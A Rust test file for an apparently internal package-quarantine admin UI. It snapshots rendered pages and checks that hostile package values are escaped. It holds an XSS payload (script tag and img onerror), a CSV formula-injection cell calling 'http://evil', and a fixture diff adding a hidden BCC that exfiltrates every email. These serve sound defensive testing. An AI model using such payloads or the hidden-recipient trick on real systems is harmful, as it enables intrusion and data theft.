//! Rendering tests: every page from a view model, snapshotted, and hostile package
//! content (markup in names, versions, paths, excerpts, READMEs) rendered as text.

use crate::views::*;
use crate::*;

/// A package value that tries every context: text, attribute, URL and script.
const HOSTILE: &str = r#"<script>alert(1)</script>"'><img src=x onerror=alert(2)>"#;

fn chrome(active: &str) -> Chrome {
    Chrome { user: "ana".into(), csrf: "csrf-token-1".into(), active: active.into(), notice: None, error: None }
}

/// Asserts that no hostile markup survived: neither tag nor an attribute breakout.
fn check_escaped(html: &str) {
    assert!(!html.contains("<script>alert"), "raw script tag in:\n{html}");
    assert!(!html.contains("<img src=x"), "raw img tag in:\n{html}");
    assert!(!html.contains("\"'><"), "attribute breakout in:\n{html}");
    assert!(
        html.contains("&#60;script&#62;alert(1)&#60;/script&#62;"),
        "the hostile value is not shown as text:\n{html}"
    );
}

fn finding(rule: &str, message: &str, location: &str, excerpt: &[(&str, &str, bool)]) -> FindingView {
    FindingView {
        rule: rule.into(),
        message: message.into(),
        location: location.into(),
        excerpt: excerpt
            .iter()
            .map(|(number, text, highlight)| ExcerptLine {
                number: (*number).into(),
                text: (*text).into(),
                highlight: *highlight,
            })
            .collect(),
    }
}

fn diff_lines(lines: &[&str]) -> Vec<DiffLine> {
    lines
        .iter()
        .map(|line| DiffLine {
            kind: match line.chars().next() {
                Some('+') => "add",
                Some('-') => "del",
                Some('@') => "hunk",
                _ => "ctx",
            }
            .into(),
            text: (*line).into(),
        })
        .collect()
}

fn postmark_version_page() -> VersionPage {
    VersionPage {
        chrome: chrome("queue"),
        package: "mail-mcp".into(),
        version: "1.0.16".into(),
        package_href: paths::package("mail-mcp"),
        state: "held".into(),
        reason: "high finding mail-hidden-recipient: A hard-coded BCC recipient 'phan@giftshop.club' (index.js:14)"
            .into(),
        decided_by: "pipeline".into(),
        when: "2026-11-24T02:00:00Z".into(),
        finding_count: 2,
        has_critical: false,
        finding_groups: vec![FindingGroup {
            severity: "high".into(),
            findings: vec![
                finding(
                    "mail-hidden-recipient",
                    "A hard-coded BCC recipient 'phan@giftshop.club' is added to every email.",
                    "index.js:14",
                    &[("13", "    to: args.to,", false), ("14", "    bcc: 'phan@giftshop.club',", true)],
                ),
                finding("source-mismatch", "index.js differs from acme/mail-mcp at v1.0.16.", "index.js:14", &[]),
            ],
        }],
        diff: Some(DiffView {
            previous_version: "1.0.15".into(),
            callouts: vec![Callout { label: "Recipients added".into(), values: vec!["phan@giftshop.club".into()] }],
            files: vec![FileDiff {
                path: "index.js".into(),
                lines: diff_lines(&[
                    "@@ -12,3 +12,4 @@",
                    "     to: args.to,",
                    "+    bcc: 'phan@giftshop.club',",
                    "     subject: args.subject,",
                ]),
            }],
            note: String::new(),
        }),
        source_match: SourceMatchView {
            status: "compared".into(),
            summary: "github.com/acme/mail-mcp at tag v1.0.16".into(),
            identical_count: 1,
            differing: vec![FileDiff {
                path: "index.js".into(),
                lines: diff_lines(&["+    bcc: 'phan@giftshop.club',"]),
            }],
            callouts: vec![],
        },
        provenance: vec![Fact { label: "Registry signature".into(), value: "no keys published upstream".into() }],
        metadata: vec![Fact { label: "Files".into(), value: "2".into() }],
        incomplete: vec![],
        history: vec![HistoryRow {
            time: "2026-11-24T02:00:00Z".into(),
            actor: "pipeline".into(),
            action: "checked".into(),
            change: "checking → held".into(),
            comment: "high finding".into(),
        }],
        action_href: paths::ACTION.into(),
    }
}

#[test]
fn sign_in_page() {
    let html = render_sign_in(&SignInPage {
        csrf: "login-csrf".into(),
        error: Some("Wrong name or password.".into()),
        name: "ana".into(),
    });
    assert!(html.contains(r#"name="csrf" value="login-csrf""#));
    insta::assert_snapshot!(html);
}

#[test]
fn queue_page() {
    let row = QueueRow {
        package: "mail-mcp".into(),
        version: "1.0.16".into(),
        state: "held".into(),
        top_severity: "high".into(),
        severity_counts: vec![("high".into(), 2), ("info".into(), 1)],
        rules: vec!["mail-hidden-recipient".into()],
        reason: "high finding mail-hidden-recipient".into(),
        when: "held 5m".into(),
        href: paths::version("mail-mcp", "1.0.16"),
        package_href: paths::package("mail-mcp"),
    };
    let page = QueuePage {
        chrome: chrome("queue"),
        counts: vec![StateCount { state: "held".into(), count: 1, href: paths::queue_state("held"), selected: false }],
        filters: QueueFilters::default(),
        known_rules: vec!["mail-hidden-recipient".into()],
        sections: vec![
            QueueSection { title: "Held".into(), rows: vec![row], more: 0 },
            QueueSection { title: "Checking".into(), rows: vec![], more: 3 },
        ],
    };
    insta::assert_snapshot!(render_queue(&page));
}

#[test]
fn version_page() {
    let html = render_version(&postmark_version_page());
    assert!(
        html.contains(
            "<span class=\"line hit\"><span class=\"ln\">14</span>    bcc: &#39;phan@giftshop.club&#39;,\n</span>"
        ),
        "{html}"
    );
    assert!(html.contains("<span class=\"add\">+    bcc: &#39;phan@giftshop.club&#39;,\n</span>"), "{html}");
    insta::assert_snapshot!(html);
}

#[test]
fn a_critical_finding_announces_the_confirmation_step() {
    let mut page = postmark_version_page();
    page.has_critical = true;
    let html = render_version(&page);
    assert!(html.contains("Approve…"));
    assert!(html.contains("approving asks for a confirmation"));
}

#[test]
fn confirm_page() {
    let page = ConfirmPage {
        chrome: chrome("queue"),
        package: "wallet-kit".into(),
        version: "2.0.0".into(),
        comment: "checked with the maintainer".into(),
        findings: vec![finding("wallet-provider-override", "Overrides window.ethereum.", "dist/index.js:3", &[])],
        action_href: paths::ACTION.into(),
        back_href: paths::version("wallet-kit", "2.0.0"),
    };
    let html = render_confirm(&page);
    assert!(html.contains(r#"name="confirm" value="yes""#));
    insta::assert_snapshot!(html);
}

#[test]
fn package_page() {
    let page = PackagePage {
        chrome: chrome("queue"),
        package: "@acme/mail".into(),
        versions: vec![PackageVersionRow {
            version: "1.0.0".into(),
            state: "released".into(),
            top_severity: String::new(),
            reason: "checks passed".into(),
            decided_by: "pipeline".into(),
            first_seen: "2026-11-24T02:00:00Z".into(),
            identity: "github.com/acme/mail · .github/workflows/release.yml".into(),
            continuity: "same identity as 0.9.0".into(),
            href: paths::version("@acme/mail", "1.0.0"),
        }],
    };
    let html = render_package(&page);
    assert!(html.contains("package=%40acme%2Fmail&#38;version=1.0.0"), "{html}");
    insta::assert_snapshot!(html);
}

#[test]
fn audit_page() {
    let page = AuditPage {
        chrome: chrome("audit"),
        filters: AuditFilters { actor: "admin:ana".into(), ..AuditFilters::default() },
        rows: vec![AuditRow {
            id: "7".into(),
            time: "2026-11-24T02:00:00Z".into(),
            actor: "admin:ana".into(),
            action: "reject".into(),
            package: "mail-mcp".into(),
            version: "1.0.16".into(),
            change: "held → rejected".into(),
            comment: "exfiltrates every email via BCC".into(),
            href: paths::version("mail-mcp", "1.0.16"),
        }],
        total: 1,
        jsonl_href: paths::with_query(paths::AUDIT_JSONL, &[("actor", "admin:ana")]),
        csv_href: paths::with_query(paths::AUDIT_CSV, &[("actor", "admin:ana")]),
    };
    insta::assert_snapshot!(render_audit(&page));
}

#[test]
fn policy_page() {
    let page = PolicyPage {
        chrome: chrome("policy"),
        settings: vec![Fact { label: "Cooling period".into(), value: "3d".into() }],
        rules: vec![
            RuleView {
                kind: "allow".into(),
                package: "@acme/*".into(),
                versions: "*".into(),
                reason: "our own packages".into(),
                source: "config".into(),
                id: String::new(),
            },
            RuleView {
                kind: "deny".into(),
                package: "mail-mcp".into(),
                versions: "1.0.16".into(),
                reason: "hidden BCC".into(),
                source: "admin:ana".into(),
                id: "3".into(),
            },
        ],
        add_href: paths::POLICY_ADD.into(),
        remove_href: paths::POLICY_REMOVE.into(),
        waivers: vec![
            WaiverView {
                id: "7".into(),
                rule: "install-script-download".into(),
                package: "setup-helper".into(),
                versions: "1.x".into(),
                reason: "our bootstrap script, reviewed".into(),
                created: "admin:ana at 2026-12-01 10:00 UTC".into(),
                expires: "2027-03-01 10:00 UTC".into(),
                status: "active".into(),
                revocable: true,
            },
            WaiverView {
                id: "4".into(),
                rule: "native-build".into(),
                package: "left-pad".into(),
                versions: "*".into(),
                reason: "reviewed".into(),
                created: "admin:bo at 2026-11-01 10:00 UTC".into(),
                expires: "2026-11-20 10:00 UTC".into(),
                status: "revoked by admin:ana at 2026-11-02 09:00 UTC".into(),
                revocable: false,
            },
        ],
        waivable_rules: vec!["install-script".into(), "install-script-download".into()],
        waiver_add_href: paths::WAIVER_ADD.into(),
        waiver_revoke_href: paths::WAIVER_REVOKE.into(),
    };
    insta::assert_snapshot!(render_policy(&page));
}

#[test]
fn keys_page() {
    let page = KeysPage {
        chrome: chrome("keys"),
        keys: vec![KeyView {
            purpose: "npm registry signatures".into(),
            key_id: "SHA256:abc".into(),
            key_type: "ecdsa-sha2-nistp256".into(),
            public_key: "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE".into(),
        }],
        registry_url: "https://airlock.internal/".into(),
        commands: vec!["npm audit signatures --registry https://airlock.internal/".into()],
    };
    insta::assert_snapshot!(render_keys(&page));
}

#[test]
fn error_page() {
    let page = ErrorPage {
        chrome: chrome(""),
        title: "Not found".into(),
        message: format!("Airlock has no record of {HOSTILE}"),
    };
    check_escaped(&render_error(&page));
}

#[test]
fn hostile_package_values_render_as_text_on_the_version_page() {
    let mut page = postmark_version_page();
    page.package = HOSTILE.into();
    page.version = HOSTILE.into();
    page.package_href = paths::package(HOSTILE);
    page.reason = HOSTILE.into();
    page.finding_groups[0].findings[0] = finding("readme", HOSTILE, &format!("{HOSTILE}:1"), &[("1", HOSTILE, true)]);
    if let Some(diff) = page.diff.as_mut() {
        diff.files[0].path = HOSTILE.into();
        diff.files[0].lines = diff_lines(&[&format!("+{HOSTILE}")]);
        diff.callouts[0].values = vec![HOSTILE.into()];
    }
    page.metadata.push(Fact { label: "README".into(), value: format!("# Title\n{HOSTILE}") });
    page.history[0].comment = HOSTILE.into();
    let html = render_version(&page);
    check_escaped(&html);
    // The hidden form fields carry the values escaped, as attribute values.
    assert!(
        html.contains(r#"name="package" value="&#60;script&#62;alert(1)&#60;/script&#62;&#34;&#39;&#62;&#60;img"#),
        "{html}"
    );
    // The URL carries them percent-encoded: no quote, angle bracket or space survives.
    assert!(html.contains("package=%3Cscript%3Ealert%281%29%3C%2Fscript%3E%22%27%3E%3Cimg%20src%3Dx"), "{html}");
    // Nothing hostile lands in a script: the only script is the external file.
    assert_eq!(html.matches("<script").count(), 1);
    assert!(html.contains(r#"<script src="/-/airlock/admin/static/admin.js" defer></script>"#));
}

#[test]
fn hostile_package_values_render_as_text_in_lists() {
    let row = QueueRow {
        package: HOSTILE.into(),
        version: HOSTILE.into(),
        state: "held".into(),
        reason: HOSTILE.into(),
        href: paths::version(HOSTILE, HOSTILE),
        package_href: paths::package(HOSTILE),
        ..QueueRow::default()
    };
    let queue = QueuePage {
        chrome: chrome("queue"),
        filters: QueueFilters { package: HOSTILE.into(), ..QueueFilters::default() },
        known_rules: vec![HOSTILE.into()],
        sections: vec![QueueSection { title: "Held".into(), rows: vec![row], more: 0 }],
        ..QueuePage::default()
    };
    check_escaped(&render_queue(&queue));
    let package = PackagePage {
        chrome: chrome("queue"),
        package: HOSTILE.into(),
        versions: vec![PackageVersionRow {
            version: HOSTILE.into(),
            identity: HOSTILE.into(),
            ..PackageVersionRow::default()
        }],
    };
    check_escaped(&render_package(&package));
    let audit = AuditPage {
        chrome: chrome("audit"),
        rows: vec![AuditRow {
            package: HOSTILE.into(),
            version: HOSTILE.into(),
            comment: HOSTILE.into(),
            ..AuditRow::default()
        }],
        ..AuditPage::default()
    };
    check_escaped(&render_audit(&audit));
    let confirm = ConfirmPage {
        chrome: chrome("queue"),
        package: HOSTILE.into(),
        version: HOSTILE.into(),
        comment: HOSTILE.into(),
        findings: vec![finding(HOSTILE, HOSTILE, HOSTILE, &[("1", HOSTILE, true)])],
        ..ConfirmPage::default()
    };
    check_escaped(&render_confirm(&confirm));
    let policy = PolicyPage {
        chrome: chrome("policy"),
        rules: vec![RuleView {
            kind: "deny".into(),
            package: HOSTILE.into(),
            reason: HOSTILE.into(),
            ..RuleView::default()
        }],
        waivers: vec![WaiverView {
            rule: HOSTILE.into(),
            package: HOSTILE.into(),
            versions: HOSTILE.into(),
            reason: HOSTILE.into(),
            status: HOSTILE.into(),
            id: HOSTILE.into(),
            revocable: true,
            ..WaiverView::default()
        }],
        waivable_rules: vec![HOSTILE.into()],
        ..PolicyPage::default()
    };
    check_escaped(&render_policy(&policy));
}

#[test]
fn a_hostile_notice_or_user_name_is_text() {
    let mut chrome = chrome("queue");
    chrome.user = HOSTILE.into();
    chrome.notice = Some(HOSTILE.into());
    check_escaped(&render_error(&ErrorPage { chrome, title: "x".into(), message: String::new() }));
    check_escaped(&render_sign_in(&SignInPage { name: HOSTILE.into(), ..SignInPage::default() }));
}

#[test]
fn query_values_are_percent_encoded() {
    assert_eq!(
        paths::version("@scope/name", "1.0.0-beta.1"),
        "/-/airlock/admin/version?package=%40scope%2Fname&version=1.0.0-beta.1"
    );
    assert_eq!(paths::package("a&b=c#d"), "/-/airlock/admin/package?package=a%26b%3Dc%23d");
    assert_eq!(paths::with_query(paths::QUEUE, &[("state", ""), ("package", "")]), "/-/airlock/admin/");
}

#[test]
fn csv_cells_are_quoted_and_cannot_be_formulas() {
    insta::assert_snapshot!(csv_line(["plain", "with \"quotes\", commas", "=HYPERLINK(\"http://evil\")", "+1", "-2", "@SUM(A1)", "\tx", "line\nbreak"]), @r#"
    "plain","with ""quotes"", commas","'=HYPERLINK(""http://evil"")","'+1","'-2","'@SUM(A1)","'	x","line
    break"
    "#);
}

#[test]
fn the_policy_forbids_inline_scripts_and_framing() {
    assert!(!CONTENT_SECURITY_POLICY.contains("unsafe-inline"));
    assert!(CONTENT_SECURITY_POLICY.contains("script-src 'self'"));
    assert!(CONTENT_SECURITY_POLICY.contains("frame-ancestors 'none'"));
    // No template puts a style attribute or an inline script on the page.
    for html in [render_version(&postmark_version_page()), render_sign_in(&SignInPage::default())] {
        assert!(!html.contains("style="));
        assert!(!html.contains("onclick") && !html.contains("javascript:"));
    }
}

#[test]
fn hostile_values_render_as_text_on_the_developer_status_page() {
    let page = crate::views::DeveloperStatusPage {
        package: HOSTILE.into(),
        version: HOSTILE.into(),
        state: "Held for review".into(),
        reason: HOSTILE.into(),
        installable: "only when an Airlock admin approves it".into(),
        contact: HOSTILE.into(),
        findings: vec![("high".into(), HOSTILE.into(), HOSTILE.into())],
        admin_link: format!("http://airlock{}", paths::version(HOSTILE, HOSTILE)),
    };
    let html = crate::render_developer_status(&page);
    check_escaped(&html);
    // No script at all on the public page, and no admin navigation.
    assert_eq!(html.matches("<script").count(), 0, "{html}");
    assert!(!html.contains(paths::AUDIT), "{html}");
    assert!(html.contains(r#"<dd class="state">Held for review</dd>"#), "{html}");
}

#[test]
fn status_paths_keep_the_scope_and_encode_the_rest() {
    assert_eq!(paths::status("@scope/pkg", "1.0.0-beta.1"), "/-/airlock/status/%40scope/pkg/1.0.0-beta.1");
    assert_eq!(paths::status("a b", "1"), "/-/airlock/status/a%20b/1");
}
